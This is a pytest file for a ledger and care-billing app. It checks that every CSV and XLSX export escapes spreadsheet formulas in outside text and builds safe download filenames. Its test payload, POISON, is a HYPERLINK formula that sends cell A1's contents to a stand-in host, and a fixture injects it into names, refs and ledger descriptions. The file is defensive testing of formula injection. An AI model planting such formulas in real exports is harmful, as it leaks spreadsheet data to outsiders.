"""Every file made for people, from every route and command that makes one: text that came
from outside never runs as a spreadsheet formula, and the download's name survives quotes
and letters outside Latin-1.

The routes and commands are read back from the app's router and the CLI's command tree, so
a new export cannot escape: it fails here until it is listed, as a file for people (and is
then fed the formula below) or as an exact exchange format (docs/formats).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import unquote

import pytest
import typer
from fastapi.routing import APIRoute, iter_route_contexts
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select, text
from typer.testing import CliRunner

from remit.access.service import actor_for
from remit.care import routes as care_routes
from remit.care.store import care_runs
from remit.cli import app as cli_app
from remit.ledger import service as ledger
from remit.ledger.model import EntryDraft, PostingDraft
from remit.ledger.service import book_id_for
from remit.reports.tables import Kind
from remit.testkit.web import sign_in
from remit.web.app import create_app

BOOK = "riverside"
POISON = '=HYPERLINK("https://e.test/?"&A1,"Zoë")'
SRC = Path(__file__).resolve().parents[1] / "src" / "remit"
OUTSIDE = ("_ref", "_name", "carer")  # the poisoned columns, as reports name them
EXPORT_PATH = re.compile(r"\.(csv|xlsx|\{fmt\})$")

# Route -> who downloads it. Its files are fed POISON through every text the export shows.
PEOPLE_ROUTES = {
    "/b/{book}/care/runs/{run_id}/selfbill.{fmt}": "demo-manager",
    "/portal/{book}/visits/runs/{run_id}/selfbill.{fmt}": "demo-provider",
    "/b/{book}/care/reports.{fmt}": "demo-manager",
    "/portal/{book}/statement.csv": "demo-provider",
    "/b/{book}/ledger/trial-balance.csv": "demo-manager",
    "/b/{book}/payment/{payment_id}/advice.{fmt}": "demo-manager",
    "/portal/{book}/remittances/{payment_id}.{fmt}": "demo-provider",
    "/b/{book}/childcare/providers/compliance.csv": "demo-clerk@valley-app",  # another book
}
# CSV routes of exact exchange formats (docs/formats), written as the data is.
EXCHANGE_ROUTES = {
    "/b/{book}/payments/runs/{pay_run_id}/remittance.csv",  # docs/formats/payments.md
    "/b/{book}/payments/runs/{pay_run_id}/cheques.csv",  # positive pay, for the bank
}
# Commands writing CSV or XLSX: for people (fed POISON below) or exact exchange formats.
PEOPLE_COMMANDS = {("ledger", "trial-balance")}
EXCHANGE_COMMANDS = {  # docs/formats: read and written exactly as the data is
    ("care", "reconcile"),
    ("care", "import"),
    ("ledger", "post"),
    ("payments", "file"),  # docs/formats/payments.md: the bank file and the remittance CSV
    ("payments", "run", "cheques"),  # the positive-pay file, for the bank
    ("childcare", "calculate"),  # docs/formats/childcare.md: payments.csv and summary.json
    ("childcare", "import"),  # the same files read into a book
}


def export_routes(app) -> set[str]:
    return {
        c.path
        for c in iter_route_contexts(app.routes)
        if isinstance(c.original_route, APIRoute) and EXPORT_PATH.search(c.path)
    }


def file_commands() -> set[tuple[str, ...]]:
    """Every command whose options or help speak of a CSV or XLSX file it writes or reads."""
    found: set[tuple[str, ...]] = set()

    def walk(command: Any, path: tuple[str, ...]) -> None:
        if hasattr(command, "commands"):  # a group
            for name, sub in command.commands.items():
                walk(sub, (*path, name))
            return
        words = " ".join(
            [command.help or ""]
            + [str(getattr(p, "help", "") or "") + " " + " ".join(p.opts) for p in command.params]
        ).lower()
        if re.search(r"\bcsv\b|\.csv|xlsx", words):
            found.add(path)

    walk(typer.main.get_command(cli_app), ())
    return found


def poison(database) -> None:
    """Text from outside, as older data may hold it: every name, ref, description."""
    put = f"'{POISON.replace(chr(39), chr(39) * 2)} ' || "
    with database.write() as conn:
        for table, column in (
            ("parties", "name"),
            ("parties", "ref"),
            ("accounts", "name"),
            ("actual_records", "carer_ref"),
            ("planned_visits", "ref"),
        ):
            conn.execute(text(f"UPDATE {table} SET {column} = {put}{column}"))


def cells(response) -> list[tuple[str, bool]]:
    """Every text cell of a CSV or XLSX download, and whether it is kept as text."""
    if response.content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/work")]
        assert not any(b"<f>" in s or b"<f " in s for s in sheets), "a formula in the XLSX"
        book = load_workbook(io.BytesIO(response.content))
        return [
            (c.value, c.data_type == "s" and bool(c.quotePrefix))
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for c in row
            if isinstance(c.value, str)
        ]
    rows = csv.reader(io.StringIO(response.content.decode("utf-8")))
    return [(value, not value.startswith("=")) for row in rows for value in row]


def assert_guarded(response, url: str) -> None:
    assert response.status_code == 200, (url, response.status_code, response.text[:300])
    found = [(value, kept) for value, kept in cells(response) if "HYPERLINK(" in value]
    assert found, f"{url}: the poisoned text never reached the file"
    assert all(kept for _, kept in found), f"{url}: unguarded {found[0][0]!r}"


def assert_named(response, url: str) -> None:
    """An ASCII header whose fallback name is quoted whole; the exact name in filename*."""
    disposition = response.headers["content-disposition"]
    found = re.fullmatch(r'attachment; filename="[^"\\]*"; filename\*=UTF-8\'\'(\S+)', disposition)
    assert found and disposition.isascii(), (url, disposition)
    if "selfbill" in url or "statement" in url:  # named after the poisoned party ref
        assert POISON.replace("/", "_") in unquote(found.group(1)), (url, disposition)


@pytest.fixture
def poisoned(demo_db):
    with demo_db.read() as conn:
        book_id = book_id_for(conn, BOOK)
        provider = actor_for(conn, f"demo-provider@{BOOK}")
        manager = actor_for(conn, f"demo-manager@{BOOK}")
        run = conn.execute(
            select(care_runs.c.id, care_runs.c.period_start, care_runs.c.period_end)
            .where(care_runs.c.provider_party_id == provider.party_in(book_id))
            .order_by(care_runs.c.id)
        ).first()
        assert run is not None, "the demo reconciles the provider's month"
        ctx = SimpleNamespace(actor=manager, book_id=book_id)
        tables = care_routes._reports(conn, ctx, run.period_start, run.period_end)
        # A table naming no party or carer (by week: dates and numbers) has none to guard.
        names = [
            t.name
            for t in tables
            if any(c.kind is Kind.TEXT and c.key.endswith(OUTSIDE) for c in t.columns)
        ]
    poison(demo_db)
    with demo_db.write() as conn:  # entries are append-only: a new one with such a text
        ledger.post(
            conn,
            manager,
            book_id,
            EntryDraft(
                date.today(),  # noqa: DTZ011 - an open period
                POISON,
                "exports-poison",
                (
                    PostingDraft("5000", 100, "GBP"),
                    PostingDraft("2000", -100, "GBP", provider.party_in(book_id)),
                ),
            ),
        )
    return demo_db, run, names


def test_every_export_route_is_listed_and_guards_text(poisoned):
    database, run, report_names = poisoned
    app = create_app(database)
    assert export_routes(app) == set(PEOPLE_ROUTES) | EXCHANGE_ROUTES, (
        "a CSV or XLSX route is not listed here: a file for people goes through "
        "remit.reports.tables and is listed in PEOPLE_ROUTES"
    )
    period = f"from={run.period_start}&to={run.period_end}"
    with TestClient(app) as client:
        for user in sorted(set(PEOPLE_ROUTES.values())):
            book = user.split("@")[1] if "@" in user else BOOK
            sign_in(client, user if "@" in user else f"{user}@{BOOK}")
            for path in (p for p, who in PEOPLE_ROUTES.items() if who == user):
                for url in urls_of(path.replace("{book}", book), run.id, period, report_names):
                    response = client.get(url)
                    assert_guarded(response, url)
                    assert_named(response, url)
            client.cookies.clear()


def urls_of(path: str, run_id: int, period: str, report_names: list[str]) -> list[str]:
    base = path.replace("{book}", BOOK).replace("{run_id}", str(run_id))
    if "advice" in base or "remittances" in base:  # run 1's first payment: demo-provider's
        return [base.replace("{payment_id}", "1").replace("{fmt}", "csv")]
    if "selfbill" in base:
        return [base.replace("{fmt}", fmt) for fmt in ("csv", "xlsx")]
    if "reports" in base:
        return [f"{base.replace('{fmt}', 'xlsx')}?{period}"] + [
            f"{base.replace('{fmt}', name + '.csv')}?{period}" for name in report_names
        ]
    return [base]


def test_every_file_command_is_listed_and_trial_balance_csv_guards_text(poisoned, monkeypatch):
    assert file_commands() == PEOPLE_COMMANDS | EXCHANGE_COMMANDS, (
        "a command writing CSV or XLSX is not listed here: a file for people goes through "
        "remit.reports.tables (PEOPLE_COMMANDS), an exchange format is documented exact"
    )
    database, _, _ = poisoned
    monkeypatch.setenv("REMIT_DATABASE_URL", str(database.url))
    result = CliRunner().invoke(
        cli_app, ["ledger", "trial-balance", "--book", BOOK, "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    values = [v for row in csv.reader(io.StringIO(result.stdout)) for v in row]
    poisoned_values = [v for v in values if "HYPERLINK(" in v]
    assert poisoned_values and all(v.startswith("'=") for v in poisoned_values)


def test_no_download_header_is_built_by_hand():
    by_hand = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if "Content-Disposition" in path.read_text(encoding="utf-8") and path.name != "downloads.py"
    ]
    assert by_hand == [], "name downloads with remit.web.downloads.download"


def test_the_portal_statement_csv_and_its_remittances_filter(demo_db):
    with demo_db.write() as conn:
        book_id = book_id_for(conn, BOOK)
        manager = actor_for(conn, f"demo-manager@{BOOK}")
        provider = actor_for(conn, f"demo-provider@{BOOK}").party_in(book_id)
        for key, lines in {
            "INVOICE-H3": (("5000", 2500, None), ("2000", -2500, provider)),
            "PAYMENT-H3": (("2000", 2500, provider), ("1000", -2500, None)),
        }.items():
            postings = tuple(PostingDraft(a, m, "GBP", p) for a, m, p in lines)
            ledger.post(conn, manager, book_id, EntryDraft(date.today(), key, key, postings))  # noqa: DTZ011
    with TestClient(create_app(demo_db)) as client:
        sign_in(client, f"demo-provider@{BOOK}")
        statement = client.get(f"/portal/{BOOK}/statement.csv")
        rows = list(csv.DictReader(io.StringIO(statement.text)))
        mine = {r["description"]: r for r in rows if r["description"].endswith("-H3")}
        assert set(mine) == {"INVOICE-H3", "PAYMENT-H3"}
        assert (mine["INVOICE-H3"]["amount"], mine["PAYMENT-H3"]["amount"]) == ("-25.00", "25.00")
        assert rows[0]["date"] == date.today().isoformat()  # noqa: DTZ011 - newest first
        remittances = client.get(f"/portal/{BOOK}/remittances").text
        assert "PAYMENT-H3" in remittances and "INVOICE-H3" not in remittances
